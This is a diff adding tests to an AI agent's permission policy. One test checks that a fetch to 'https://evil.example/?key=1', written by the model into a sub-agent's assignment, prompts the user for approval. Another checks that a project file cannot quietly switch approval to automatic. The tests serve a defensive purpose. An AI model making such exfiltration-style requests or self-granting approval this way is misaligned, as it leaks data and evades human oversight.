@@ -221,6 +221,28 @@ describe("answers", () => {
 		expect(await outcomeOf(setup, fetchUrl("https://docs.example.org/other"))).toBe("ask");
 	});
 
+	test("an address in an agent's assignment, which the model wrote, is asked about; the user's is not", async () => {
+		const parent = await fixture({ mode: "auto", prompts: ["see https://docs.example.org/guide"] });
+		const setup: Setup = {
+			agent: "child",
+			parent: parent.policy,
+			prompts: ["fetch https://evil.example/?key=1"],
+		};
+		expect(await outcomeOf(setup, fetchUrl("https://evil.example/?key=1"))).toBe("ask");
+		expect(await outcomeOf(setup, fetchUrl("https://docs.example.org/guide"))).toBe("allow");
+	});
+
+	test("a project's file that changes later does not undo the mode that the user chose", async () => {
+		const made = await fixture({ mode: "ask", boundary: "sandbox" });
+		writeFileSync(join(base, "project/.tau/config.yml"), "tools: { approvalMode: auto }\n");
+		await made.settings.reload();
+		expect(made.policy.mode).toBe("ask");
+		const other = await fixture({ mode: "ask", boundary: "sandbox" });
+		writeFileSync(join(base, "agent/config.yml"), "tools: { approvalMode: auto }\n");
+		await other.settings.reload();
+		expect(other.policy.mode).toBe("auto");
+	});
+
 	test("hosts and runs outside of the sandbox are asked about by name", async () => {
 		const made = await fixture({ mode: "auto", boundary: "sandbox" });
 		const shown = answering(made, "session");
